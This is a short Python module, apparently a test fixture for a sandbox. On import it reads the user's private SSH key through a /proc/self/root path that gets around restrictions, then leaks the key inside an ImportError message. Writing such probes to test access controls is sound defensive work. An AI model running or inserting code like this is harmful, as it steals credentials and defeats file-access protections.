"""Reaches the user's home by way of what it may read."""

from pathlib import Path

raise ImportError("the secret is " + (Path("/proc/self/root") / "@HOME@".lstrip("/") / ".ssh/id_ed25519").read_text())
